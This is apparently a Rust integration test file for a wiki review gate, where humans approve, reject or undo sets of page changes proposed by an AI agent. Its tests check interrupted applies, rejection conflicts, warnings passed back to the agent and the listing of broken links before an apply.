    let _ = browser.sends(&id, &shown, &[("decision", "apply")]).await;
    let is_aside = || {
        at_places(&desk.wiki)
            .keys()
            .any(|path| path.contains("moving-"))
    };
    while !is_aside() {
        tokio::task::yield_now().await;
    }
    desk.program.kill();
    desk.wiki.set_tree_rebuild_time(Duration::ZERO);
    ((desk.wiki, desk.agent), later, id)
}

fn at_places(wiki: &DemoWiki) -> BTreeMap<String, String> {
    wiki.with_store(|store| {
        let pages = store.pages();
        pages
            .map(|page| (page.path.clone(), page.content.clone()))
            .collect()
    })
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_set_that_a_killed_server_began_is_gone_on_with_or_taken_back_and_not_rejected() {
    for takes_back in [true, false] {
        let ((wiki, agent), (_other, browser), id) = swap_cut_short().await;
        let set = format!("/review/sets/{id}");
        let page = browser.open(&set).await;
        says(
            &page.text,
            "A call made some of it, or may have, and did not finish",
        );
        lacks(&page.text, "was changed since");
        says(&page.text, &format!("{set}/undo"));
        let told = call_ok(&agent, GET_PROPOSAL, json!({ "id": id })).await;
        assert_eq!(told["state"], "open", "{told}");
        says(
            &told["warnings"].to_string(),
            "made some of it, or may have",
        );
        let shown = Command::operator(&wiki, &agent, &["proposals", "show", &id])
            .end()
            .await
            .good();
        says(
            &shown.stdout,
            "made some of it, or may have, and did not finish: `wikijs-gate undo ",
        );
        let refused = browser.decide_on(&id, &page, "reject", NO).await;
        refused.is(StatusCode::CONFLICT, "it was not rejected");
        if takes_back {
            let undo = format!("{set}/undo");
            let asked = browser.open(&undo).await;
            assert_eq!(asked.status, StatusCode::OK, "{}", asked.text);
            let undone = browser.takes_back(&undo, &asked).await;
            assert_eq!(undone.status, StatusCode::SEE_OTHER, "{}", undone.text);
            let page = browser.open(&set).await;
            lacks(&page.text, "A call made some of it");
            let rejected = browser.decide_on(&id, &page, "reject", NO).await;
            assert_eq!(rejected.status, StatusCode::SEE_OTHER, "{}", rejected.text);
        } else {
            let command = ["proposals", "reject", &id, "--why", "No."];
            let refused = Command::operator(&wiki, &agent, &command).end().await;
            says(&refused.told, "--keep-made");
            let page = browser.open(&set).await;
            let applied = browser.sends(&id, &page, &[("decision", "apply")]).await;
            assert_eq!(applied.status, StatusCode::SEE_OTHER, "{}", applied.text);
            let page = browser.settled(&applied.leads_to()).await;
            says(&page.text, "Some of it was made by an earlier call");
        }
        let (a, b) = if takes_back { ("A", "B") } else { ("B", "A") };
        let expected = [("docs/a", a), ("docs/b", b)];
        let expected = expected.map(|(path, text)| (path.to_owned(), format!("{text}\n")));
        assert_eq!(at_places(&wiki), BTreeMap::from(expected));
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_rest_of_a_set_is_rejected_by_whoever_was_shown_what_is_made_and_the_agent_is_told() {
    let ((wiki, agent), (_other, browser), id) = swap_cut_short().await;
    let before = at_places(&wiki);
    let page = browser.open(&format!("/review/sets/{id}")).await;
    says(&page.text, "Reject the rest");
    let made = page.hidden("made");
    let shown = [NO, &[("made", &*made)]].concat();
    let rejected = browser.decide_on(&id, &page, "reject", &shown).await;
    assert_eq!(rejected.status, StatusCode::SEE_OTHER, "{}", rejected.text);
    assert_eq!(at_places(&wiki), before);
    let told = call_ok(&agent, GET_PROPOSAL, json!({ "id": id })).await;
    assert_eq!(told["state"], "rejected", "{told}");
    says(
        &told["warnings"].to_string(),
        &format!("{made} made some of it"),
    );
    let page = browser.open(&rejected.leads_to()).await;
    says(&page.text, &format!("/review/sets/{id}/undo"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_set_of_which_a_change_may_be_sent_is_not_rejected_nor_called_cut_short_while_it_is_applied()
 {
    let (desk, ids) = Desk::of_old_pages(2).await;
    let id = desk.propose_new_for_old(&ids).await;
    let (browser, (_other, later)) = (desk.signed_in().await, desk.beside().await);
    let set = format!("/review/sets/{id}");
    let shown = browser.open(&set).await;
    desk.wiki.set_write_delay(Duration::from_secs(20));
    let _ = browser.sends(&id, &shown, &[("decision", "apply")]).await;
    while mutations(&desk.wiki).is_empty() {
        tokio::task::yield_now().await;
    }
    lacks(&later.open(&set).await.text, "did not finish");
    let told = call_ok(&desk.agent, GET_PROPOSAL, json!({ "id": id })).await;
    says(&told["warnings"].to_string(), "somebody is deciding on it");
    desk.program.kill();
    let page = later.open(&set).await;
    says(
        &page.text,
        "A call made some of it, or may have, and did not finish",
    );
    let refused = later.decide_on(&id, &page, "reject", NO).await;
    refused.is(StatusCode::CONFLICT, "it was not rejected");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn links_that_lead_nowhere_for_what_is_left_out_are_named_before_it_is_applied() {
    let desk = desk(&[("docs/a", "[b](/docs/b)\n"), ("docs/b", "B\n")]).await;
    let agent = Setup::admin(&desk.wiki)
        .indexed()
        .toolsets("pages,drafts,proposals")
        .dry()
        .in_dir_of(&desk.agent)
        .serve()
        .await;
    let moved = json!({ "path": "docs", "moveTo": "guide" });
    let shown = agent.call(BULK, full(moved)).await.unwrap();
    let id = shown["proposal"].as_str().unwrap();
    let all = shown["changes"].as_array().unwrap().iter();
    let mut paths = all.map(|one| one["target"]["path"].as_str().unwrap());
    let number = paths.position(|path| path == "docs/a").unwrap().to_string();
    let browser = desk.signed_in().await;
    let without = ("leave_out", &*number);
    let asked = browser.decide(id, "apply", &[without]).await;
    assert_eq!(asked.status, StatusCode::OK, "{}", asked.text);
    let (_, named) = asked
        .text
        .split_once("Links that will lead nowhere")
        .unwrap_or_else(|| panic!("{}", asked.text));
    let named = named.split_once("</section>").unwrap().0;
    for says in ["docs/a", "line 1", "/docs/b"] {
        assert!(named.contains(says), "{says}: {named}");
    }
    // The tick stays, and nothing was sent.
    let [ticked] = tags(&asked, "input", "name=\"leave_out\"")
        .into_iter()
        .filter(|tag| tag.contains(" checked"))
        .collect::<Vec<_>>()[..]
    else {
        panic!("{}", asked.text);
    };
    assert!(ticked.contains(&format!("value=\"{number}\"")), "{ticked}");
    assert_eq!(mutations(&desk.wiki).len(), 0);
    // Neither a made-up word nor that of another session is the page's; its own applies the rest.
    let (other_program, other_browser) = desk.beside().await;
    let elsewhere = other_browser.decide(id, "apply", &[without]).await;
    let elsewhere = elsewhere.hidden("links_left");
    for wrong in ["x", &*elsewhere] {
        let wrong = [without, ("links_left", wrong)];
        let again = browser.decide(id, "apply", &wrong).await;
        assert_eq!(again.status, StatusCode::OK, "{}", again.text);
        assert_eq!(mutations(&desk.wiki).len(), 0);
    }
    other_program.kill();
    let told = asked.hidden("links_left");
    let accepted = [without, ("links_left", &*told)];
    let done = browser.decide(id, "apply", &accepted).await;
    assert_eq!(done.status, StatusCode::SEE_OTHER, "{}", done.text);
    assert!(is_there(&desk.wiki, "docs/a") && is_there(&desk.wiki, "guide/b"));
    desk.program.kill();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_open_page_that_asks_for_the_state_of_its_set_asks_the_wiki_nothing() {
    let place = Prefixed::begin().await;
    let id = place.propose("docs/a").await;
    let set = format!("/review/sets/{id}");
    assert_eq!(place.anna.open(&set).await.status, StatusCode::OK);
    place.wiki.clear_requests();
    let state = format!("{set}?part=state");
    for _ in 0..5 {
        assert_eq!(place.anna.open(&state).await.text, "open");
    }
    assert_eq!(place.wiki.requests().len(), 0);
    // The page itself is judged by the wiki as it is now.
    place.move_out("docs/a", "hr/a");
    assert_eq!(place.anna.open(&set).await.status, StatusCode::NOT_FOUND);
    assert_eq!(place.anna.open(&state).await.status, StatusCode::NOT_FOUND);
}
